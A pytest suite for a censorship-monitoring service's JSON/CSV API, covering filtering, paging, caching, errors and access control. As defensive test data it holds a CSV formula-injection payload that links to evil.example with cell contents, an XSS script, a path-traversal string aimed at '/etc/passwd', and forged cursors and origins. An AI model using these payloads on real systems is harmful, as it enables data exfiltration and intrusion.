"""`/api/v1`: it tells what is stored, page by page, in JSON and CSV; and nothing to whom it is not for."""

import base64
import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta
from itertools import count
from pathlib import Path
from random import Random
from typing import Any, get_args

import httpx
import msgspec
import pytest
from store_cases import BEGAN, SITES, event, real, small
from test_store import history
from test_store_listing import judged, matches
from web_cases import PUBLIC, Watched, served

from monitor.explain import worded_measurement
from monitor.models import Incident, Kind, Measurement, Network, Status, to_json
from monitor.store import By, Store, Wanted
from monitor.web.api.endpoints import ENDPOINTS
from monitor.web.api.questions import MOST
from monitor.web.archive import STALE_S

HOUR = timedelta(hours=1)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)<script>alert(1)</script>\u202e'
EVENTS = [
    event(f"e{n:015}", started=BEGAN + n * HOUR, site=SITES[n % 3], confidence=n / 40,
          kind=Kind.BLOCKING if n % 4 else Kind.SILENCE, methods=("dns.nxdomain",) if n % 3 else ("tls.reset",),
          started_range=(BEGAN + (n - 1) * HOUR, BEGAN + n * HOUR),
          ended=BEGAN + (n + 2) * HOUR if n % 2 else None,
          ended_range=(BEGAN + (n + 1) * HOUR, BEGAN + (n + 2) * HOUR) if n % 2 else None)
    for n in range(40)
]  # fmt: skip
INCIDENTS = [
    Incident(
        id=f"i{n}", revision=1, state="started", started=EVENTS[n].started, ended=EVENTS[n].ended, events=(EVENTS[n],)
    )
    for n in range(0, 40, 5)
]


@pytest.fixture(scope="module")
def kept() -> list[Measurement]:
    hostile = small(9000, url=f"https://{SITES[0]}/{HOSTILE}", vantage="-2+3", probe=HOSTILE,
                    network=Network(asn=64500, isp=HOSTILE, country="VE"))  # fmt: skip
    return [*history(), with_ports(real()), hostile, small(9001, id="with/slash ?#")]


def with_ports(one: Measurement) -> Measurement:
    """As a vantage measures: each of its connections from a port of its own."""
    ports = count(40_000)

    def ported(seen: Any) -> Any:
        steps = {
            step: tuple(msgspec.structs.replace(each, local_port=next(ports)) for each in getattr(seen, step))
            for step in ("dns", "tcp", "tls", "http")
        }
        return msgspec.structs.replace(seen, **steps)

    return msgspec.structs.replace(ported(one), controls=tuple(map(ported, one.controls)))


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory, kept: list[Measurement]) -> str:
    url = f"sqlite:{tmp_path_factory.mktemp('store') / 'api.db'}"
    with Store.open(url) as store:
        store.append(kept)
        store.save_events(EVENTS, INCIDENTS)
    return url


@pytest.fixture(scope="module")
def api(url: str) -> Iterator[httpx.Client]:
    with served(url) as client:
        yield client


def told(answer: httpx.Response) -> Any:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/json"
    return answer.json()


def problem(answer: httpx.Response, status: int) -> dict[str, Any]:
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    details: dict[str, Any] = answer.json()
    assert {"type", "title", "status", "detail"} <= details.keys()
    assert details["status"] == status
    return details


def everything(api: httpx.Client, path: str, name: str, **query: Any) -> list[Any]:
    """All pages of a list, by the links that each gives to the next."""
    answer, found = api.get(path, params=query), []
    while True:
        found += told(answer)[name]
        if "next" not in answer.links:
            assert answer.json()["next"] is None
            return found
        answer = api.get(answer.links["next"]["url"])


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.content.decode(), newline="")))


# --- what is told ------------------------------------------------------------------------------------------------------


def test_measurements_are_those_that_were_asked_for_newest_first(api: httpx.Client, kept: list[Measurement]) -> None:
    chance, found_some = Random(6), 0
    for _ in range(40):
        asked = {
            "site": chance.choice([None, None, *SITES]), "asn": chance.choice([None, None, 8048, 27889]),
            "country": chance.choice([None, "VE", "CO"]), "status": chance.choice([None, None, *Status]),
            "method": chance.choice([None, None, "tls.reset"]), "vantage": chance.choice([None, None, "home"]),
            "since": chance.choice([None, BEGAN + 20 * HOUR]), "until": chance.choice([None, BEGAN + 50 * HOUR]),
        }  # fmt: skip
        order = chance.choice(["newest", "oldest"])
        expected = [one.id for one in judged(kept) if matches(one, Wanted(**asked))]
        query = {
            name: getattr(value, "isoformat", lambda v=value: v)() for name, value in asked.items() if value is not None
        }
        found = everything(
            api, "/api/v1/measurements", "measurements", **query, order=order, limit=chance.choice([13, 1000])
        )
        assert [one["id"] for one in found] == (expected[::-1] if order == "newest" else expected), query
        found_some += bool(found)
    assert found_some > 15


def test_a_measurement_is_told_whole_as_export_prints_it_but_for_the_vantages_own_ports(
    api: httpx.Client, kept: list[Measurement]
) -> None:
    one = next(one for one in kept if one.tls)
    assert all(seen.local_port for seen in one.tcp)
    printed = json.loads(to_json(worded_measurement(one)))
    answer = told(api.get(f"/api/v1/measurements/{one.id}"))
    for observations in (printed, *printed["controls"]):
        for step in ("dns", "tcp", "tls", "http"):
            for seen in observations[step]:
                seen["local_port"] = None
    assert answer == printed
    assert answer["verdict"]["reasons"][0]["text"]


def test_any_id_can_be_asked_for(api: httpx.Client) -> None:
    assert told(api.get("/api/v1/measurements/with%2Fslash%20%3F%23"))["id"] == "with/slash ?#"
    for id in ("nobody", "%00", "%ff", "..%2f..%2fetc%2fpasswd", "a" * 3000):
        problem(api.get(f"/api/v1/measurements/{id}"), 404)
        problem(api.get(f"/api/v1/events/{id}"), 404)
        problem(api.get(f"/api/v1/incidents/{id}"), 404)


def test_events_are_those_that_were_asked_for_newest_first(api: httpx.Client) -> None:
    cases: list[tuple[dict[str, Any], Any]] = [
        ({}, lambda one: True),
        ({"site": SITES[1]}, lambda one: one.site == SITES[1]),
        ({"kind": "silence"}, lambda one: one.kind is Kind.SILENCE),
        ({"active": "true"}, lambda one: one.ended is None),
        ({"active": "false"}, lambda one: one.ended is not None),
        ({"method": "tls.reset"}, lambda one: "tls.reset" in one.methods),
        ({"minimum_confidence": 0.5, "country": "VE"}, lambda one: one.confidence >= 0.5),
        ({"country": "CO"}, lambda one: False),
        (
            {"asn": 8048, "since": (BEGAN + 30 * HOUR).isoformat()},
            lambda one: not one.ended or one.ended >= BEGAN + 30 * HOUR,
        ),
        ({"until": (BEGAN + 5 * HOUR).isoformat()}, lambda one: one.started < BEGAN + 5 * HOUR),
    ]
    for query, passes in cases:
        expected = [one.id for one in EVENTS[::-1] if passes(one)]
        assert [one["id"] for one in everything(api, "/api/v1/events", "events", **query, limit=7)] == expected, query


def test_an_event_names_the_measurements_behind_it(api: httpx.Client, kept: list[Measurement]) -> None:
    over = EVENTS[3]
    answer = told(api.get(f"/api/v1/events/{over.id}"))
    assert over.ended_range is not None
    behind = [
        one.id for one in judged(kept)
        if one.site == over.site and one.network.asn == 8048 and over.started_range[0] <= one.started <= over.ended_range[1]
    ]  # fmt: skip
    assert (answer["measurement_ids"], answer["complete"]) == (behind, True)
    assert behind
    assert answer["network"] == {"asn": 8048, "isp": "CANTV", "country": "VE"}
    assert told(api.get(f"/api/v1/events/{EVENTS[0].id}"))["measurement_ids"] == []  # a silence has none


def test_incidents_are_told_with_their_events(api: httpx.Client) -> None:
    found = everything(api, "/api/v1/incidents", "incidents", limit=3)
    assert [one["id"] for one in found] == [one.id for one in INCIDENTS[::-1]]
    assert told(api.get("/api/v1/incidents/i5"))["events"][0]["id"] == EVENTS[5].id
    active = everything(api, "/api/v1/incidents", "incidents", active="true")
    assert {one["id"] for one in active} == {one.id for one in INCIDENTS if one.ended is None}


def test_sites_and_networks_say_how_it_is_now(api: httpx.Client, url: str) -> None:
    with Store.open(url) as store:
        latest = store.latest()
    sites = {one["site"]: one for one in told(api.get("/api/v1/sites"))["sites"]}
    assert sites.keys() == {one.site for one in latest}
    of_one = [one for one in latest if one.site == SITES[0]]
    assert sum(sites[SITES[0]]["statuses"].values()) == len(of_one)
    networks = {one["network"]["asn"]: one for one in told(api.get("/api/v1/networks"))["networks"]}
    assert {8048, 27889, 64500, None} == networks.keys()
    assert networks[8048]["network"] == {"asn": 8048, "isp": "CANTV", "country": "VE"}


@pytest.mark.parametrize("by", ["site,status", "asn", "day,country", "method,week", "status,month", "hour,asn"])
def test_aggregates_say_the_same_in_both_forms(api: httpx.Client, by: str) -> None:
    answer = told(api.get("/api/v1/aggregates", params={"by": by, "country": "VE"}))
    table = rows(api.get("/api/v1/aggregates", params={"by": by, "country": "VE", "format": "csv"}))
    assert answer["by"] == by.split(",")
    assert answer["rows"]
    assert [int(row["measurements"]) for row in table] == [row["measurements"] for row in answer["rows"]]
    assert list(table[0])[: len(answer["by"])] == answer["by"]
    for row in answer["rows"]:
        if "status" not in answer["by"]:
            assert row["measurements"] == sum(row.get(status.value, 0) for status in Status)


def test_a_question_too_large_is_refused(url: str) -> None:
    with served(url, most_rows=5) as api:
        assert "shorter" in problem(api.get("/api/v1/aggregates?by=site,hour"), 422)["detail"]
        told(api.get("/api/v1/aggregates?by=status"))


# --- forms -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [one.path for one in ENDPOINTS if one.row is not None])
def test_csv_has_the_rows_of_the_json(api: httpx.Client, path: str) -> None:
    query = {"by": "site"} if "aggregates" in path else {}
    [listed] = [value for key, value in told(api.get(path, params=query)).items() if key not in ("next", "by")]
    table = rows(api.get(path, params=query, headers={"accept": "text/csv"}))
    assert len(table) == len(listed) > 0
    assert all(row["id"] == one["id"] for row, one in zip(table, listed, strict=True) if "id" in row)


def test_a_name_from_a_stranger_is_no_formula_in_a_spreadsheet(api: httpx.Client) -> None:
    for path in ("/api/v1/measurements?asn=64500&format=csv", "/api/v1/networks?format=csv"):
        cells = [cell for row in rows(api.get(path)) for cell in row.values()]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) or "\u202e" in cell]


@pytest.mark.parametrize(
    ("accept", "query", "form"),
    [
        ("*/*", "", "json"), ("", "", "json"), ("text/csv", "", "csv"), ("text/csv, application/json", "", "json"),
        ("application/json;q=0.5, text/csv", "", "csv"), ("text/csv;q=0, */*", "", "json"), ("TEXT/CSV", "", "csv"),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "", "json"), ("text/csv", "?format=json", "json"),
        ("application/json", "?format=csv", "csv"), ("text/csv;q=x", "", "json"), ("text/csv;q=0.9,*/*;q=0.1", "", "csv"),
    ],
)  # fmt: skip
def test_the_form_is_what_the_client_prefers(api: httpx.Client, accept: str, query: str, form: str) -> None:
    answer = api.get(f"/api/v1/sites{query}", headers={"accept": accept})
    assert form in answer.headers["content-type"]
    assert "Accept" in answer.headers["vary"]


def test_who_has_the_answer_already_gets_only_that(api: httpx.Client) -> None:
    for path in ("/api/v1/sites", "/api/v1/measurements?format=csv", "/api/schema", f"/api/v1/events/{EVENTS[0].id}"):
        first = api.get(path)
        tag = first.headers["etag"]
        for has in (tag, f'"other", {tag}', tag.removeprefix("W/"), "*"):
            again = api.get(path, headers={"if-none-match": has})
            assert (again.status_code, again.content, again.headers["etag"]) == (304, b"", tag)
        assert api.get(path, headers={"if-none-match": '"other"'}).content == first.content
        assert "max-age" in first.headers["cache-control"]


def test_the_largest_page_knows_that_there_is_another(tmp_path: Path) -> None:
    url = f"sqlite:{tmp_path / 'a.db'}"
    with Store.open(url) as store:
        store.append([small(number) for number in range(MOST + 1)])
    with served(url) as api:
        assert len(everything(api, "/api/v1/measurements", "measurements", limit=MOST)) == MOST + 1


def test_a_new_measurement_makes_it_another_answer(tmp_path: Path) -> None:
    url, now = f"sqlite:{tmp_path / 'a.db'}", 100.0
    with Store.open(url) as store, served(url, clock=lambda: now) as api:
        store.append([small(1)])
        tags = {path: api.get(path).headers["etag"] for path in ("/api/v1/sites", "/api/v1/aggregates?by=site")}
        store.append([small(2, site=SITES[1])])
        now += STALE_S
        for path, tag in tags.items():
            assert api.get(path, headers={"if-none-match": tag}).status_code == 200


def test_head_says_the_same_without_a_body(api: httpx.Client) -> None:
    full, bare = api.get("/api/v1/sites"), api.head("/api/v1/sites")
    assert (bare.status_code, bare.content) == (200, b"")
    assert bare.headers["etag"] == full.headers["etag"]


def test_a_number_may_be_written_with_its_exponent(api: httpx.Client) -> None:
    """As JSON and most programs write small ones."""
    whole = api.get("/api/v1/events?minimum_confidence=0.9").json()
    assert api.get("/api/v1/events?minimum_confidence=9e-1").json() == whole


# --- what is wrong -----------------------------------------------------------------------------------------------------

WRONG: list[tuple[str, str | None]] = [
    ("measurements?limit=0", "limit"), ("measurements?limit=1001", "limit"), ("measurements?limit=ten", "limit"),
    ("measurements?limit=", "limit"), ("measurements?site=", "site"), ("measurements?site=a/b", "site"),
    ("measurements?site=a%20b", "site"), ("measurements?site=" + "a" * 300, "site"), ("measurements?asn=0", "asn"),
    ("measurements?asn=-1", "asn"), ("measurements?asn=4294967296", "asn"), ("measurements?asn=8%2048", "asn"),
    ("measurements?asn=1e3", "asn"),
    ("measurements?since=0.5", "since"),
    ("measurements?asn=%2B8048", "asn"), ("events?active=2", "active"), ("measurements?site=a..b", "site"),
    ("measurements?site=%5B::1", "site"), ("measurements?site=a:99999", "site"),
    ("measurements?asn=8048&asn=1", "asn"), ("measurements?country=ve", "country"), ("measurements?country=VEN", "country"),
    ("measurements?status=fine", "status"), ("measurements?method=tls", "method"),
    ("events?method=foo.bar", "method"), ("measurements?since=yesterday", "since"),
    ("measurements?since=2026-01-01T00:00:00", "since"), ("measurements?order=random", "order"),
    ("measurements?since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z", "until"), ("measurements?nosuch=1", "nosuch"),
    ("measurements?format=xml", "format"), ("measurements?cursor=AAAA", "cursor"), ("measurements?cursor=%2B%2F", "cursor"),
    ("measurements?cursor=" + "A" * 4001, "cursor"), ("sites?site=a", "site"), ("measurements/x?format=csv", "format"),
    ("measurements?asn=null", "asn"), ("measurements?vantage=%00", "vantage"), ("measurements?site=%ff%fe%00", "site"),
    ("events?minimum_confidence=1e999", "minimum_confidence"),
    ("events?active=perhaps", "active"), ("events?kind=coup", "kind"), ("events?minimum_confidence=2", "minimum_confidence"),
    ("events?minimum_confidence=nan", "minimum_confidence"), ("aggregates", "by"), ("aggregates?by=", "by"),
    ("aggregates?by=site,site", "by"), ("aggregates?by=day,hour", "by"), ("aggregates?by=site,asn,day", "by"),
    ("aggregates?by=vantage", "by"), ("aggregates?by=site%00", "by"),
]  # fmt: skip


@pytest.mark.parametrize(("asked", "parameter"), WRONG)
def test_what_is_not_understood_is_said_with_the_parameter(api: httpx.Client, asked: str, parameter: str) -> None:
    details = problem(api.get(f"/api/v1/{asked}"), 400)
    assert details["parameter"] == parameter
    assert not [
        word for word in ("msgspec", "regex", "RFC3339", "\\", "`str`", "something else") if word in details["detail"]
    ]


@pytest.mark.parametrize(
    ("asked", "detail"),
    [
        ("measurements?since=yesterday", "a moment with its zone (RFC 3339), such as 2026-01-15T13:05:00Z"),
        ("measurements?country=ve", "two capital letters (ISO 3166-1), such as VE"),
        ("events?site=a%20b", "the host of a site, such as www.lapatilla.com"),
    ],
)
def test_a_wrong_value_is_answered_with_an_example(api: httpx.Client, asked: str, detail: str) -> None:
    assert problem(api.get(f"/api/v1/{asked}"), 400)["detail"] == f"Expected {detail}."


def test_a_site_is_found_however_its_host_is_written(tmp_path: Path) -> None:
    url = f"sqlite:{tmp_path / 'a.db'}"
    with Store.open(url) as store:
        store.append(
            [small(1, site="elpitazo.net"), small(2, site="xn--caf-dma.example"), small(3, site="a.example:8443")]
        )
    with served(url) as api:
        for asked, site in (
            ("ELPITAZO.net", "elpitazo.net"), ("elpitazo.net.", "elpitazo.net"), ("CAFÉ.example", "xn--caf-dma.example"),
            ("A.example:8443", "a.example:8443"),
        ):  # fmt: skip
            [found] = told(api.get("/api/v1/measurements", params={"site": asked}))["measurements"]
            assert found["site"] == site


def test_what_goes_on_is_asked_for_as_pages_do(api: httpx.Client) -> None:
    for written, number in (("true", "1"), ("false", "0")):
        assert api.get(f"/api/v1/events?active={number}").content == api.get(f"/api/v1/events?active={written}").content


@pytest.mark.parametrize(
    ("asked", "allowed"),
    [
        ("measurements?status=fine", {status.value for status in Status}), ("events?kind=coup", {kind.value for kind in Kind}),
        ("measurements?order=random", {"newest", "oldest"}), ("events?active=yes", {"true", "false"}),
        ("sites?format=xml", {"json", "csv"}), ("aggregates?by=day,nonsense", {*get_args(By)}),
    ],
)  # fmt: skip
def test_a_wrong_value_of_few_is_answered_with_all_of_them(api: httpx.Client, asked: str, allowed: set[str]) -> None:
    details = problem(api.get(f"/api/v1/{asked}"), 400)
    assert {*details["allowed"]} == allowed
    assert details["detail"] == f"Expected one of: {', '.join(details['allowed'])}."
    assert "allowed" not in problem(api.get("/api/v1/measurements?limit=0"), 400)


def test_a_cursor_serves_only_the_question_it_came_with(api: httpx.Client) -> None:
    cursor = told(api.get("/api/v1/measurements?status=ok&limit=2"))["next"]
    for other in ("status=blocked", "status=ok&order=oldest", "", "status=ok&asn=8048"):
        details = problem(api.get(f"/api/v1/measurements?{other}&cursor={cursor}"), 400)
        assert details["parameter"] == "cursor"
    problem(api.get(f"/api/v1/events?cursor={cursor}"), 400)
    raw = base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4))
    for broken in (
        raw[:-1],
        raw[:6],
        raw[:6] + b"\xff" * 20,
        b"",
        raw[::-1],
        raw[:6] + b"\x92\xcf" + b"\xff" * 8 + b"\xc4\x01a",
    ):
        forged = base64.urlsafe_b64encode(broken).decode().rstrip("=")
        problem(api.get(f"/api/v1/measurements?status=ok&limit=2&cursor={forged}"), 400)
    assert told(api.get(f"/api/v1/measurements?status=ok&limit={MOST}&cursor={cursor}&format=json"))


def test_errors_are_problems_whatever_they_are(api: httpx.Client) -> None:
    problem(api.get("/api/v1/nothing"), 404)
    problem(api.get("/api/v2/sites"), 404)
    for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS"):
        answer = api.request(method, "/api/v1/sites")
        problem(answer, 405)
        assert "GET" in answer.headers["allow"]
    problem(api.get("/api/v1/measurements?site=" + "a" * 9000), 414)


def test_a_store_that_cannot_be_read_is_said_without_its_name(tmp_path: Path) -> None:
    with served(f"sqlite:{tmp_path / 'secret' / 'nothing.db'}") as api:
        for path in ("/api/v1/sites", "/api/v1/measurements/x", "/api/v1/aggregates?by=day"):
            answer = api.get(path)
            problem(answer, 503)
            assert "secret" not in answer.text
            assert int(answer.headers["retry-after"]) > 0


# --- who may read ------------------------------------------------------------------------------------------------------


def test_on_this_machine_nobody_elses_page_reads(url: str) -> None:
    """A page that the user's browser has open, by a name of its own for our address, or in the background."""
    with served(url) as api:
        for host in ("evil.example", "evil.example:9105", "", "127.0.0.1.evil.example", "almenara.example"):
            problem(api.get("/api/v1/sites", headers={"host": host}), 403)
        for host in ("localhost", "127.0.0.1:9105", "[::1]:80"):
            told(api.get("/api/v1/sites", headers={"host": host}))
        for mode in ("cors", "no-cors"):
            for site in ("cross-site", "same-site"):
                asked = {"sec-fetch-site": site, "sec-fetch-mode": mode, "origin": "https://evil.example"}
                answer = api.get("/api/v1/sites", headers=asked)
                problem(answer, 403)
        own = api.get("/api/v1/sites", headers={"sec-fetch-site": "same-origin", "sec-fetch-mode": "cors"})
        assert "access-control-allow-origin" not in own.headers
        assert own.headers["cross-origin-resource-policy"] == "same-origin"
        assert api.get("/", headers={"host": "evil.example"}).status_code == 403


def test_what_is_public_anyone_may_read_from_any_page_by_its_name_alone(url: str) -> None:
    with served(url, Watched(public=PUBLIC)) as api:
        asked = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "cors", "origin": "https://research.example"}
        for path in ("/api/v1/sites", "/api/schema", "/feed.atom", f"/sites/{SITES[0]}/badge.svg", "/api/v1/nothing"):
            answer = api.get(path, headers=asked | {"host": "almenara.example"})
            assert answer.headers["access-control-allow-origin"] == "*", path
            assert answer.headers["cross-origin-resource-policy"] == "cross-origin"
            assert "access-control-allow-credentials" not in answer.headers
        problem(api.get("/api/v1/sites", headers=asked), 403)
        problem(api.get("/api/v1/sites", headers=asked | {"host": "evil.example"}), 403)
        assert "access-control-allow-origin" not in api.get("/", headers={"host": "almenara.example"}).headers
        for path in ("/metrics", "/healthz"):
            assert "access-control-allow-origin" not in api.get(path, headers={"host": "almenara.example"}).headers


def test_every_answer_tells_browsers_to_run_nothing_foreign(api: httpx.Client) -> None:
    for path in ("/api/v1/sites", "/api/v1/nothing", "/feed.atom", "/nothing", f"/sites/{SITES[0]}/chart.svg"):
        headers = api.get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src 'unsafe" not in policy
        assert (headers["x-content-type-options"], headers["referrer-policy"]) == ("nosniff", "no-referrer")


def test_who_asks_too_often_waits(url: str) -> None:
    with served(url, per_minute=3) as api:
        for _ in range(3):
            told(api.get("/api/v1/sites"))
        answer = api.get("/api/v1/sites")
        problem(answer, 429)
        assert 1 <= int(answer.headers["retry-after"]) <= 21
        assert api.get("/feed.atom").status_code == 429
        assert api.post("/-/reload").status_code == 200


def test_behind_a_proxy_each_reader_counts_for_himself(url: str) -> None:
    """On this machine, where the service is public; else anyone could say that he is somebody else."""
    for public, last in ((PUBLIC, 200), (None, 429)):
        with served(url, Watched(public=public), per_minute=2) as api:
            statuses = [
                api.get("/api/v1/sites", headers={"x-forwarded-for": f"192.0.2.{n // 2}"}).status_code for n in range(4)
            ]
            assert statuses == [200, 200, last, last]


TOKEN = "0123456789abcdef0123456789abcdef"


@pytest.mark.parametrize(
    ("listen", "token", "sent", "status"),
    [
        ("127.0.0.1:9105", None, None, 200), ("127.0.0.1:9105", TOKEN, None, 200), ("0.0.0.0:9105", None, None, 403),
        ("0.0.0.0:9105", TOKEN, None, 403), ("0.0.0.0:9105", TOKEN, f"Bearer {TOKEN}", 200),
        ("0.0.0.0:9105", TOKEN, f"bearer {TOKEN}", 200), ("0.0.0.0:9105", TOKEN, f"Bearer {TOKEN[:-1]}", 403),
        ("0.0.0.0:9105", TOKEN, "Bearer", 403), ("0.0.0.0:9105", None, "Bearer", 403), ("0.0.0.0:9105", TOKEN, TOKEN, 403),
        ("127.0.0.1:9105", None, "Bearer x", 403), ("0.0.0.0:9105", TOKEN, "Bearer é", 403),
    ],
)  # fmt: skip
def test_beyond_this_machine_changes_need_the_token(
    url: str, listen: str, token: str | None, sent: str | None, status: int
) -> None:
    service = Watched(listen=listen, token=token)
    headers = {} if sent is None else {"authorization": sent.encode()}
    with served(url, service) as api:
        assert api.post("/-/reload", headers=headers).status_code == status  # type: ignore[arg-type]
    assert service.reloaded == (status == 200)
